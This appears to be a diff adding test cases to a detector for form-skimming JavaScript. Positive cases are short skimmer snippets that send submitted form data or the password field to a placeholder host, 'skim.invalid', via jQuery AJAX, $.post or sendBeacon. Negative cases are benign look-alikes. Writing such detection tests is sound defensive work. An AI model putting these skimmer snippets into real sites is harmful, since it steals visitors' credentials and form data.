@@ -23,6 +23,26 @@ examine(skimsForms, {
       },
       weight: 'proof',
     },
+    {
+      when: 'jQuery takes it and sends it',
+      files: {
+        'index.js': `$(document).ready(function () { $('form').on('submit', function () { $.ajax({ url: 'https://skim.invalid/x', type: 'POST', data: $(this).serialize() }); }); });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'only the field of the password is sent',
+      files: {
+        'index.js': `document.querySelector('form').addEventListener('submit', () => { navigator.sendBeacon('https://skim.invalid/', document.querySelector('input[type=password]').value) })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'jQuery posts it from a handler',
+      files: {
+        'index.js': `jQuery(function ($) { $('form').submit(function () { $.post('https://skim.invalid/', $(this).serialize()); }); });`,
+      },
+    },
   ],
   silent: [
     {
@@ -37,6 +57,24 @@ examine(skimsForms, {
       when: 'a form is made by code',
       files: {
         'index.js': `const d = new FormData(); d.append('file', 'inert'); fetch('https://api.invalid/', { method: 'POST', body: d })`,
+      },
+    },
+    {
+      when: 'a plug-in of jQuery sends a form to where the form says',
+      files: {
+        'index.js': `$.fn.remote = function () { return this.on('submit', function () { $.ajax({ url: this.action, type: 'POST', data: $(this).serialize() }); }); };`,
+      },
+    },
+    {
+      when: 'a form shows whether the password is strong',
+      files: {
+        'index.js': `const field = document.querySelector('input[type=password]'); field.addEventListener('input', () => { document.querySelector('#meter').value = field.value.length; })`,
+      },
+    },
+    {
+      when: 'an element of the page is found and something else is sent',
+      files: {
+        'index.js': `const box = document.querySelector('#app'); fetch('https://stats.invalid/', { method: 'POST', body: JSON.stringify({ width: innerWidth }) }).then(() => box.remove())`,
       },
     },
   ],
